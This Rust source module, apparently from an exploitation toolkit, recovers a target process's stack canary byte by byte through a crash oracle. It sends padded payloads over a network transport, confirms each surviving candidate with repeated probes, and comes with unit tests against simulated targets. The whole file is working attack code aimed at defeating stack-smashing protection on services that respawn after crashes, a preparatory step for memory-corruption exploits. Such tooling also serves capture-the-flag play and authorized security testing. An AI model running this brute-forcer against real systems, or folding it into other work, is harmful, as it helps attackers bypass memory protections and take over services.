use crate::oracle::CrashOracle;
use crate::payload::PayloadBuilder;
use crate::transport::{Transport, TransportError};
use std::fmt;
use std::time::Duration;
use thiserror::Error;
use tracing::{debug, info};

/// Canaries longer than this are assumed to start with a zero byte.
const ZERO_LOW_BYTE_ABOVE: usize = 4;

#[derive(Error, Debug)]
pub enum BruteForceError {
    /// No value in 0..=255 was confirmed for the byte at `index`.
    #[error("Brute force stalled at byte {index} (timeout={timeout:?}, offset={offset})")]
    Stalled {
        index: usize,
        timeout: Duration,
        offset: usize,
    },

    #[error("Canary length must be at least 1")]
    InvalidLength,

    #[error(transparent)]
    Transport(#[from] TransportError),
}

/// A fully recovered canary, in the order its bytes follow the padding.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Canary(Vec<u8>);

impl Canary {
    pub fn as_bytes(&self) -> &[u8] {
        &self.0
    }

    pub fn into_bytes(self) -> Vec<u8> {
        self.0
    }

    pub fn len(&self) -> usize {
        self.0.len()
    }

    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// The canary as a little-endian integer literal, e.g. `0x563412fecaefbe00`.
    pub fn to_le_hex(&self) -> String {
        let digits: String = self.0.iter().rev().map(|b| format!("{b:02x}")).collect();
        format!("0x{digits}")
    }
}

impl fmt::Display for Canary {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for b in &self.0 {
            write!(f, "{b:02x}")?;
        }
        Ok(())
    }
}

#[derive(Debug, Clone)]
pub struct BruteForceParams {
    /// Padding bytes between the prefix and the first canary byte.
    pub offset: usize,
    pub length: usize,
    /// Extra identical probes a candidate must also survive.
    pub confirm: usize,
    pub timeout: Duration,
    pub prefix: Vec<u8>,
    pub pad: u8,
}

impl BruteForceParams {
    pub fn new(offset: usize, length: usize, timeout: Duration) -> Self {
        Self {
            offset,
            length,
            confirm: 3,
            timeout,
            prefix: Vec::new(),
            pad: b'A',
        }
    }
}

/// Recovers the canary one byte at a time through the crash oracle.
///
/// For each position, candidates 0..=255 are tried in ascending order behind
/// `prefix + pad * offset + known bytes`. The first candidate that survives once and
/// then `confirm` more identical probes is kept. Canaries longer than four bytes
/// are assumed to start with `0x00` and that byte is not probed.
///
/// Either every byte is recovered or the call fails; a partial canary is never
/// returned.
pub fn recover(
    transport: &mut dyn Transport,
    params: &BruteForceParams,
) -> Result<Canary, BruteForceError> {
    if params.length == 0 {
        return Err(BruteForceError::InvalidLength);
    }
    let builder = PayloadBuilder::new(&params.prefix, params.pad);
    let mut oracle = CrashOracle::new(transport, params.timeout);

    let mut known = Vec::with_capacity(params.length);
    if params.length > ZERO_LOW_BYTE_ABOVE {
        known.push(0u8);
    }

    while known.len() < params.length {
        let index = known.len();
        let byte = guess_byte(&mut oracle, &builder, params, &mut known)?.ok_or(
            BruteForceError::Stalled {
                index,
                timeout: params.timeout,
                offset: params.offset,
            },
        )?;
        info!(
            "Canary byte {}/{} = {byte:#04x} ({} probes so far)",
            index + 1,
            params.length,
            oracle.probes()
        );
    }

    let canary = Canary(known);
    info!(
        "Canary recovered: {} ({} probes)",
        canary.to_le_hex(),
        oracle.probes()
    );
    Ok(canary)
}

/// Tries every value for the next position. On success the byte is appended to
/// `known` and returned.
fn guess_byte(
    oracle: &mut CrashOracle<'_>,
    builder: &PayloadBuilder<'_>,
    params: &BruteForceParams,
    known: &mut Vec<u8>,
) -> Result<Option<u8>, TransportError> {
    known.push(0);
    let last = known.len() - 1;
    for candidate in 0..=u8::MAX {
        known[last] = candidate;
        let payload = builder.with_tail(params.offset, known);
        if oracle.confirmed(&payload, params.confirm)? {
            return Ok(Some(candidate));
        }
        debug!("byte {last}: {candidate:#04x} rejected");
    }
    known.pop();
    Ok(None)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::oracle::tests::FnTransport;
    use rand::Rng;
    use rand_chacha::ChaCha8Rng;
    use rand_core::SeedableRng;

    const T: Duration = Duration::from_millis(1);

    /// Survives until the payload reaches the canary, then only while every
    /// overwritten byte matches it.
    fn canary_target(
        offset: usize,
        canary: Vec<u8>,
    ) -> FnTransport<impl FnMut(&[u8]) -> bool> {
        FnTransport::new(move |p: &[u8]| {
            if p.len() < offset {
                return true;
            }
            canary.starts_with(&p[offset..])
        })
    }

    #[test]
    fn recovers_exact_canary_at_offset_64() {
        let canary = b"\x00\xbe\xef\xca\xfe\x12\x34\x56".to_vec();
        let mut transport = canary_target(64, canary.clone());
        let found = recover(&mut transport, &BruteForceParams::new(64, 8, T)).unwrap();
        assert_eq!(found.as_bytes(), canary.as_slice());
        assert_eq!(found.to_le_hex(), "0x563412fecaefbe00");
        assert_eq!(found.to_string(), "00beefcafe123456");
    }

    #[test]
    fn recovers_random_canaries_at_random_offsets() {
        let mut rng = ChaCha8Rng::from_seed([7; 32]);
        for _ in 0..24 {
            let offset = rng.random_range(0..=512);
            let length = if rng.random_bool(0.5) { 4 } else { 8 };
            let mut canary = vec![0u8; length];
            rng.fill(canary.as_mut_slice());
            if length > 4 {
                canary[0] = 0;
            }

            let mut transport = canary_target(offset, canary.clone());
            let found = recover(&mut transport, &BruteForceParams::new(offset, length, T)).unwrap();
            assert_eq!(found.into_bytes(), canary, "offset {offset}");
        }
    }

    #[test]
    fn long_canaries_assume_a_zero_low_byte() {
        let canary = b"\x00\x11\x22\x33\x44".to_vec();
        let mut transport = canary_target(8, canary.clone());
        let found = recover(&mut transport, &BruteForceParams::new(8, 5, T)).unwrap();
        assert_eq!(found.as_bytes()[0], 0);
        // The zero byte is never probed on its own.
        assert!(transport.sends.iter().all(|p| p.len() >= 8 + 2));
    }

    #[test]
    fn short_canaries_probe_every_byte() {
        let canary = vec![0xde, 0xad, 0xbe, 0xef];
        let mut transport = canary_target(16, canary.clone());
        let found = recover(&mut transport, &BruteForceParams::new(16, 4, T)).unwrap();
        assert_eq!(found.as_bytes(), canary.as_slice());
        assert!(transport.sends.iter().any(|p| p.len() == 16 + 1));
    }

    #[test]
    fn candidates_are_tried_in_ascending_order_and_first_confirmed_wins() {
        // Both 0x10 and 0x20 survive as the only byte; 0x10 must win.
        let mut transport = FnTransport::new(|p: &[u8]| matches!(p.last(), Some(0x10 | 0x20)));
        let found = recover(&mut transport, &BruteForceParams::new(0, 1, T)).unwrap();
        assert_eq!(found.as_bytes(), &[0x10]);
        let tried: Vec<u8> = transport.sends.iter().map(|p| p[0]).collect();
        assert_eq!(&tried[..0x10], (0..0x10).collect::<Vec<u8>>().as_slice());
        // 0x10 sent once plus three confirmations.
        assert_eq!(tried.len(), 0x10 + 4);
    }

    #[test]
    fn stall_reports_index_timeout_and_offset() {
        // Only the first guessed byte can be satisfied.
        let mut transport = FnTransport::new(|p: &[u8]| p.len() <= 32 + 2 && p[32 + 1] == 0x41);
        let params = BruteForceParams::new(32, 8, Duration::from_millis(3));
        match recover(&mut transport, &params) {
            Err(BruteForceError::Stalled {
                index,
                timeout,
                offset,
            }) => {
                assert_eq!(index, 2);
                assert_eq!(timeout, Duration::from_millis(3));
                assert_eq!(offset, 32);
            }
            other => panic!("Expected Stalled, got {other:?}"),
        }
    }

    #[test]
    fn prefix_and_pad_are_applied() {
        let canary = vec![0x00, 0x01, 0x02, 0x03, 0x04, 0x05];
        let expected = canary.clone();
        let mut transport = FnTransport::new(move |p: &[u8]| {
            p.starts_with(b"NAME:") && expected.starts_with(&p[5 + 10..])
        });
        let params = BruteForceParams {
            prefix: b"NAME:".to_vec(),
            pad: 0x90,
            ..BruteForceParams::new(10, 6, T)
        };
        let found = recover(&mut transport, &params).unwrap();
        assert_eq!(found.as_bytes(), canary.as_slice());
        assert!(transport.sends.iter().all(|p| p[5..15].iter().all(|&b| b == 0x90)));
    }

    #[test]
    fn flaky_oracle_never_yields_a_wrong_canary() {
        let canary = b"\x00\x9a\x3c\x71\xe4\x05\xd2\x68".to_vec();
        for seed in 0..16u8 {
            let mut rng = ChaCha8Rng::from_seed([seed; 32]);
            let truth = canary.clone();
            let mut calls = 0usize;
            // Every fourth call has a chance of being flipped.
            let mut transport = FnTransport::new(move |p: &[u8]| {
                calls += 1;
                let honest = truth.starts_with(&p[16..]);
                if calls % 4 == 0 && rng.random_bool(0.5) {
                    !honest
                } else {
                    honest
                }
            });
            match recover(&mut transport, &BruteForceParams::new(16, 8, T)) {
                Ok(found) => assert_eq!(found.as_bytes(), canary.as_slice(), "seed {seed}"),
                Err(BruteForceError::Stalled { .. }) => {}
                Err(e) => panic!("seed {seed}: unexpected error {e:?}"),
            }
        }
    }

    #[test]
    fn zero_length_is_rejected() {
        let mut transport = FnTransport::new(|_| true);
        assert!(matches!(
            recover(&mut transport, &BruteForceParams::new(0, 0, T)),
            Err(BruteForceError::InvalidLength)
        ));
        assert!(transport.sends.is_empty());
    }

    #[test]
    fn transport_failure_is_not_a_stall() {
        struct Gone;
        impl Transport for Gone {
            fn name(&self) -> &'static str {
                "gone"
            }
            fn send(&mut self, _: &[u8], _: Duration) -> Result<bool, TransportError> {
                Err(TransportError::Disconnected {
                    target: "gone".into(),
                })
            }
            fn close(&mut self) {}
        }
        assert!(matches!(
            recover(&mut Gone, &BruteForceParams::new(8, 8, T)),
            Err(BruteForceError::Transport(TransportError::Disconnected { .. }))
        ));
    }
}
